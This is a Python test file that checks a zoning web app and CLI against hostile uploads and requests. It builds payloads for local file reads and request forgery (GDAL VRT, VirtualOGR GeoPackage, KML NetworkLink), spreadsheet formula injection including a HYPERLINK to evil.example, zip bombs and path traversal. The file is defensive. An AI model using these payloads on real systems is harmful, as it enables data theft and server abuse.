"""Hostile files and hostile requests (issue #19): nothing read off the server, no request forgery, no formula in a
spreadsheet, no archive bomb, 4xx for bad requests, nothing of the server's inside leaked, nothing left behind."""
from __future__ import annotations

import io
import json
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import zipfile
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from conftest import REPO, serve_process
from zoning.web.app import create_app

DATE = "2026-11-21"
HOTEL = REPO / "seeds" / "sites" / "zhaoshan_hotel.geojson"
SQUARE = {"type": "Polygon", "coordinates": [[[113.05, 27.95], [113.051, 27.95], [113.051, 27.951], [113.05, 27.95]]]}
SECRET = "root:x:0:0:SECRET-LINE"


class Listener:
    """A local HTTP listener that counts connections (the target of a request-forgery attempt)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.hits += 1
            conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/csv\r\n\r\nname,wkt\nLEAK,POINT(113 28)\n")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.sock.close()


@pytest.fixture(scope="module")
def secret_csv(tmp_path_factory):
    p = tmp_path_factory.mktemp("secret") / "passwd.csv"
    p.write_text(f"name,wkt\n{SECRET},\"POLYGON((113.05 27.95,113.051 27.95,113.051 27.951,113.05 27.95))\"\n")
    return p


def _vrt(src: str) -> str:
    return (f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{src}</SrcDataSource>'
            '<GeometryField encoding="WKT" field="wkt"/><GeometryType>wkbPolygon</GeometryType>'
            '</OGRVRTLayer></OGRVRTDataSource>')


def _tricks(secret_csv: Path, register: Path, port: int) -> list[tuple[str, bytes]]:
    vrts = [_vrt(f"CSV:{secret_csv}"), _vrt(str(register)), _vrt(f"/vsicurl/http://127.0.0.1:{port}/x.csv")]
    out = [(f"site{ext}", v.encode()) for v in vrts for ext in (".geojson", ".json", ".kml", ".gpkg", ".fgb", ".shp")]
    gdalg = {"type": "gdal_streamed_alg",
             "command_line": f"gdal vector pipeline ! read {secret_csv} ! write --of stream streamed_dataset"}
    out.append(("site.geojson", json.dumps(gdalg).encode()))
    # a real GeoJSON that points elsewhere in a property, and a KML with a network link
    out.append(("site.kml", (f'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>'
                             f'<NetworkLink><Link><href>http://127.0.0.1:{port}/x.kml</href></Link></NetworkLink>'
                             '</Document></kml>').encode()))
    # a VRT inside a KMZ and inside a zipped "shapefile"
    for name, member in (("site.kmz", "doc.kml"), ("site.zip", "site.shp")):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr(member, _vrt(f"CSV:{secret_csv}"))
        out.append((name, buf.getvalue()))
    return out


def _virtual_ogr_gpkg(folder: Path, secret_csv: Path) -> Path:
    """A GeoPackage whose schema declares a VirtualOGR table over the secret file."""
    import geopandas as gpd
    from shapely.geometry import box
    path = folder / "virtual.gpkg"
    gpd.GeoDataFrame({"name": ["x"]}, geometry=[box(113.05, 27.95, 113.051, 27.951)], crs="EPSG:4490").to_file(path)
    with sqlite3.connect(path) as c:
        c.execute("PRAGMA writable_schema=ON")
        c.execute("INSERT INTO sqlite_master VALUES('table','leak','leak',0,"
                  f"'CREATE VIRTUAL TABLE leak USING VirtualOGR(''{secret_csv}'')')")
    return path


def test_indirection_tricks_are_refused_by_the_web_app(tmp_path, secret_csv):
    db = tmp_path / "register.sqlite"
    app = create_app(auth=False, db=db)
    c = TestClient(app, raise_server_exceptions=False)
    c.post("/api/check", json={"site": SQUARE, "category": "commercial", "date": DATE, "case_ref": "CASE-PRIVATE"})
    listener = Listener()
    try:
        tricks = _tricks(secret_csv, db, listener.port)
        tricks.append(("virtual.gpkg", _virtual_ogr_gpkg(tmp_path, secret_csv).read_bytes()))
        for name, data in tricks:
            r = c.post("/api/check", files={"file": (name, data)}, data={"category": "工业", "date": DATE})
            assert r.status_code == 400, (name, r.status_code, r.text[:300])
            body = r.json()
            assert set(body) == {"error"}
            text = json.dumps(body, ensure_ascii=False)
            assert SECRET not in text and "CASE-PRIVATE" not in text and "LEAK" not in text, name
            assert "/tmp/" not in text and "zoning-web" not in text, text
            page = c.post("/check", files={"file": (name, data)}, data={"category": "工业", "date": DATE})
            assert page.status_code == 400 and SECRET not in page.text
            lst = c.post("/api/screen", files={"file": (name, data)}, data={"category": "工业"})
            assert lst.status_code == 400 and SECRET not in lst.text
    finally:
        listener.close()
    assert listener.hits == 0
    assert app.state.register.count() == 1


@pytest.mark.slow
def test_indirection_tricks_are_refused_by_the_cli(tmp_path, secret_csv):
    listener = Listener()
    try:
        for name, data in _tricks(secret_csv, tmp_path / "register.sqlite", listener.port):
            path = tmp_path / name
            path.write_bytes(data)
            p = subprocess.run([sys.executable, "-m", "zoning", "check", str(path), "-c", "工业", "--date", DATE],
                               capture_output=True, text=True, timeout=60)
            assert p.returncode == 2, (name, p.stdout, p.stderr)
            assert SECRET not in p.stdout + p.stderr and "Traceback" not in p.stderr
            assert len(p.stderr.strip().splitlines()) == 1, p.stderr
    finally:
        listener.close()
    assert listener.hits == 0


def test_no_formula_reaches_a_spreadsheet(tmp_path):
    from zoning.screen import ScreenOptions, screen
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    lst = tmp_path / "list.csv"
    lst.write_text(
        "编号,项目名称,项目类型,wkt\n"
        f'A,"{evil.replace(chr(34), chr(34) * 2)}",工业,'
        '"POLYGON((113.05 27.95,113.051 27.95,113.051 27.951,113.05 27.95))"\n'
        'B,+cmd|calc,工业,"POLYGON((113.06 27.95,113.061 27.95,113.061 27.951,113.06 27.95))"\n'
        'C,-3.5,工业,"POLYGON((113.07 27.95,113.071 27.95,113.071 27.951,113.07 27.95))"\n',
        encoding="utf-8",
    )
    out = tmp_path / "out.xlsx"
    screen(lst, out, ScreenOptions(quiet=True, workers=1, date=DATE))
    csv_out = tmp_path / "out.csv"
    screen(lst, csv_out, ScreenOptions(quiet=True, workers=1, date=DATE))

    def no_formula(path):
        wb = openpyxl.load_workbook(path)
        cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        return [c.value for c in cells]
    values = no_formula(out)
    assert evil in values and "+cmd|calc" in values          # kept as text
    text = csv_out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'+cmd|calc" in text and '"-3.5"' in text and "'-3.5" not in text
    # the web app's result downloads and the register export
    app = create_app(auth=False, db=tmp_path / "r.sqlite")
    c = TestClient(app, raise_server_exceptions=False)
    r = c.post("/api/screen", files={"file": ("list.csv", lst.read_bytes())}, data={"date": DATE})
    assert r.status_code == 200
    xlsx_link = [u for u in r.json()["summary"]["outputs"] if u.endswith(".xlsx")][0]
    (tmp_path / "web.xlsx").write_bytes(c.get(xlsx_link).content)
    no_formula(tmp_path / "web.xlsx")
    c.post("/api/check", json={"site": SQUARE, "category": "commercial", "name": evil, "case_ref": "@SUM(1+1)"})
    app.state.register.export(tmp_path / "register.xlsx")
    values = no_formula(tmp_path / "register.xlsx")
    assert evil in values and "@SUM(1+1)" in values
    app.state.register.export(tmp_path / "register.csv")
    assert "'=HYPERLINK" in (tmp_path / "register.csv").read_text(encoding="utf-8-sig")


def _bomb(path: Path, member: str, size: int):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr(member, b"<kml>" + b" " * size + b"</kml>")


@pytest.mark.parametrize("name,member", [("bomb.kmz", "doc.kml"), ("bomb.zip", "a.shp"), ("bomb.xlsx", "xl/a.xml")])
def test_every_archive_is_bounded(tmp_path, name, member):
    import time

    import zoning
    from zoning.errors import InputError
    path = tmp_path / name
    _bomb(path, member, 40_000_000)
    assert path.stat().st_size < 200_000
    t = time.perf_counter()
    with pytest.raises(InputError, match="unpack"):
        zoning.check(path, category="industrial", date=DATE)
    assert time.perf_counter() - t < 5
    many = tmp_path / f"many{Path(name).suffix}"
    with zipfile.ZipFile(many, "w") as zf:
        zf.writestr(member, "x")
        for i in range(10_001):
            zf.writestr(f"f{i}.txt", "")
    with pytest.raises(InputError, match="entries"):
        zoning.check(many, category="industrial", date=DATE)


BAD_BODIES = [
    ('{"site": {"type": "Polygon", "coordinates": [[[NaN, 27.9], [113.01, 27.9], [113.01, 27.91], [NaN, 27.9]]]},'
     ' "category": "工业"}'),
    '{"site": {"type": "Polygon", "coordinates": [[[1e400, 27.9], [113.01, 27.9], [113.01, 27.91], [1e400, 27.9]]]},'
    ' "category": "工业"}',
    json.dumps({"site": {"type": "Polygon", "coordinates": [[[113, 27.9], [113.01, 27.9], [113.01, 27.91],
                                                             [113, 27.91]]]}, "category": "工业"}),
    json.dumps({"site": SQUARE, "category": "工业", "radius_m": [1]}),
    '{"site": ' + json.dumps(SQUARE) + ', "category": "工业", "radius_m": 1e400}',
    json.dumps({"site": SQUARE, "category": "工业", "case_ref": {"a": 1}}),
    json.dumps({"site": SQUARE, "category": "工业", "name": ["x"]}),
    json.dumps({"site": SQUARE, "category": 5}),
    '{"site": ' + "[" * 100_000 + "]" * 100_000 + "}",
    '{"site": {"type": "GeometryCollection", "geometries": ' + "[" * 5000 + "]" * 5000 + "}}",
    "[1, 2]", "not json", '{"site": "POLYGON"}',
]


@pytest.mark.slow
def test_bad_requests_are_4xx_and_the_connection_stays_usable(tmp_path):
    """Against a real server: each bad body gets 4xx with one `error` line on a kept-alive connection, and a good
    request on the same connection afterwards succeeds."""
    import httpx
    with serve_process(tmp_path / "r.sqlite", workers=0) as (_, url), httpx.Client(base_url=url, timeout=60) as client:
        for body in BAD_BODIES:
            r = client.post("/api/check", content=body, headers={"content-type": "application/json"})
            assert 400 <= r.status_code < 500, (body[:80], r.status_code, r.text[:200])
            assert list(r.json()) == ["error"] and "\n" not in r.json()["error"]
            assert "close" not in r.headers.get("connection", "")
        for path in ("/checks/99999999999999999999999", "/api/checks/99999999999999999999999",
                     "/checks/-1", "/screen/../../etc/passwd/result.csv", "/screen/abc/result.csv"):
            r = client.get(path)
            assert 400 <= r.status_code < 500, (path, r.status_code)
        big = ";".join(f"{113.05 + 0.001 * __import__('math').cos(k / 9549.3):.7f},"
                       f"{27.95 + 0.001 * __import__('math').sin(k / 9549.3):.7f}" for k in range(60_000))
        r = client.post("/check", data={"category": "commercial", "date": DATE,
                                        "coords": big.replace(";", "\n")})
        assert len(big) > 1_100_000 and r.status_code == 303, r.text[:300]
        r = client.post("/api/check", json={"site": SQUARE, "category": "commercial", "date": DATE})
        assert r.status_code == 200 and r.json()["verdict"]


def _our_temp() -> set:
    return {p.name for p in Path(tempfile.gettempdir()).iterdir()
            if p.name.startswith(("zoning-web-", "zoning-screen-", "zoning-pdf-"))}


def test_nothing_of_the_server_leaks_and_nothing_is_left_behind(tmp_path, monkeypatch):
    # a temporary folder of this test's own: other tests (or test runs) working at the same time leave theirs
    # in the system's, which is not this server's doing
    private = tmp_path / "tmp"
    private.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private))
    before = _our_temp()
    db = tmp_path / "r.sqlite"
    app = create_app(auth=False, db=db)
    c = TestClient(app, raise_server_exceptions=False)
    # an upload error names the file as uploaded and uses the form's words
    r = c.post("/api/check", files={"file": ("地块.geojson", b'{"type": "FeatureCollection", "features": []}')},
               data={"category": "工业"})
    err = r.json()["error"]
    assert r.status_code == 400 and "地块.geojson" in err and "/tmp" not in err and "--" not in err
    two = json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"编号": k}, "geometry": SQUARE} for k in ("A", "B")]}).encode()
    err = c.post("/api/check", files={"file": ("两块.geojson", two)}, data={"category": "工业"}).json()["error"]
    assert "--id" not in err and "编号 the Id field" in err, err
    err = c.post("/api/check", json={"site": SQUARE, "category": "no-such"}).json()["error"]
    assert "--category" not in err and "项目类型" in err, err
    # results carry the manifest's title, version and hash, not its path
    r = c.post("/api/check", json={"site": SQUARE, "category": "commercial", "date": DATE}).json()
    assert "path" not in r["manifest"] and r["manifest"]["title"] and len(r["manifest"]["sha256"]) == 64
    text = json.dumps(r, ensure_ascii=False) + c.get(f"/checks/{r['check_id']}").text
    assert str(REPO) not in text and "/tmp/" not in text
    # a screen returns no server path; its links survive a restart; a PDF leaves nothing behind
    lst = tmp_path / "list.csv"
    lst.write_text("编号,wkt\nA,\"POLYGON((113.05 27.95,113.051 27.95,113.051 27.951,113.05 27.95))\"\nB,bad\n",
                   encoding="utf-8")
    r = c.post("/api/screen", files={"file": ("名单.csv", lst.read_bytes())}, data={"category": "工业"}).json()
    text = json.dumps(r, ensure_ascii=False)
    assert str(tmp_path) not in text and "/tmp/" not in text and "名单.csv" in text
    link = r["summary"]["outputs"][0]
    restarted = TestClient(create_app(auth=False, db=db), raise_server_exceptions=False)
    got = restarted.get(link)
    assert got.status_code == 200 and "/tmp/" not in got.text and "名单.csv" in got.text
    gone = restarted.get(link.replace(link.split("/")[2], "A" * 24))
    assert gone.status_code == 410 and "screen the list again" in gone.text
    assert _our_temp() <= before


def test_headers_on_every_response(tmp_path):
    c = TestClient(create_app(auth=False, db=tmp_path / "r.sqlite"), raise_server_exceptions=False)
    for path in ("/", "/checks", "/screen", "/docs", "/openapi.json", "/static/leaflet/leaflet.js", "/nowhere"):
        h = c.get(path).headers
        assert "frame-ancestors 'none'" in h["content-security-policy"] and "unsafe-eval" not in \
            h["content-security-policy"], path
        assert h["x-frame-options"] == "DENY" and h["x-content-type-options"] == "nosniff", path
        assert h["referrer-policy"]
    docs = c.get("/docs").text
    assert "/static/swagger-ui/swagger-ui-bundle.js" in docs and "cdn" not in docs.lower()
    assert c.get("/static/swagger-ui/swagger-ui-bundle.js").status_code == 200


def test_a_full_disk_says_so_and_files_nothing(tmp_path, monkeypatch):
    import errno
    app = create_app(auth=False, db=tmp_path / "r.sqlite")
    c = TestClient(app, raise_server_exceptions=False)
    reg = app.state.register
    for exc in (sqlite3.OperationalError("database or disk is full"), OSError(errno.ENOSPC, "No space left")):
        def full(*a, exc=exc, **k):
            raise exc
        monkeypatch.setattr(reg, "add", full)
        r = c.post("/api/check", json={"site": SQUARE, "category": "commercial", "date": DATE})
        assert r.status_code == 507 and "磁盘已满" in r.json()["error"] and "disk is full" in r.json()["error"]
        page = c.post(
            "/check", data={"category": "commercial", "coords": "113.05,27.95\n113.051,27.95\n113.051,27.951"}
        )
        assert page.status_code == 507 and "磁盘已满" in page.text
    monkeypatch.undo()
    assert reg.count() == 0
    with sqlite3.connect(reg.path) as con:
        assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_register_search_takes_percent_and_underscore_literally(tmp_path):
    app = create_app(auth=False, db=tmp_path / "r.sqlite")
    c = TestClient(app, raise_server_exceptions=False)
    for ref in ("A_1", "AB1", "50%", "501"):
        c.post("/api/check", json={"site": SQUARE, "category": "commercial", "case_ref": ref, "date": DATE})
    reg = app.state.register
    assert [r["case_ref"] for r in reg.search(q="_")] == ["A_1"]
    assert [r["case_ref"] for r in reg.search(q="%")] == ["50%"]
    assert sorted(r["case_ref"] for r in reg.search(q="1")) == ["501", "AB1", "A_1"]


def test_a_locked_register_is_a_friendly_503(tmp_path, monkeypatch):
    app = create_app(auth=False, db=tmp_path / "r.sqlite")
    c = TestClient(app, raise_server_exceptions=False)

    def locked(*a, **k):
        raise sqlite3.OperationalError("database is locked")
    monkeypatch.setattr(app.state.register, "add", locked)
    r = c.post("/api/check", json={"site": SQUARE, "category": "commercial", "date": DATE})
    assert r.status_code == 503 and list(r.json()) == ["error"] and "nothing was filed" in r.json()["error"]
    monkeypatch.undo()
    assert app.state.register.count() == 0
